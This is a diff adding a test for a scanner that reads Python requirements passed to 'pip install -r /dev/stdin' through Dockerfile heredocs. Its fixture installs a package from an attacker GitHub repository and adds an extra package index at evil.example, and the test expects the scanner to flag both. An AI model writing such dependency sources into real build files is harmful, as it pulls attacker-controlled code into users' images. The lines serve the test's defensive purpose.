@@ -300,6 +300,31 @@ describe('requirements files named by the install commands of Dockerfiles, workf
     expect(await scan('pip freeze > /tmp/log.txt 2>&1')).toEqual([]);
   });
 
+  // The shell gives a RUN's heredoc to its command as stdin; `pip install -r /dev/stdin` reads it as requirements.
+  it('read a heredoc an install takes as -r /dev/stdin, directly or through a pipe, for that install only', async () => {
+    const dir = tree({
+      Dockerfile: [
+        'FROM python:3.12',
+        'RUN pip install --no-cache-dir -r /dev/stdin <<EOF',
+        'evil @ git+https://github.com/attacker/evil@main',
+        'EOF',
+        "RUN cat <<'EOF' | uv pip install --system -r /dev/stdin",
+        '--extra-index-url https://evil.example/simple',
+        'flask>=2',
+        'EOF',
+        'RUN pip install -r /dev/stdin',
+        '',
+      ].join('\n'),
+    });
+    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual([
+      'CPP003@Dockerfile:9',
+      'CPP010@Dockerfile:7',
+      'CPP012@Dockerfile:6',
+      'CPP014@Dockerfile:3',
+      'CPP070@Dockerfile:6',
+    ]);
+  });
+
   it('read the named file as requirements even where another command names it by -c', async () => {
     const dir = tree({
       Dockerfile: 'FROM python:3.12\nRUN pip install -c deps.lst\nRUN pip install -r deps.lst\n',
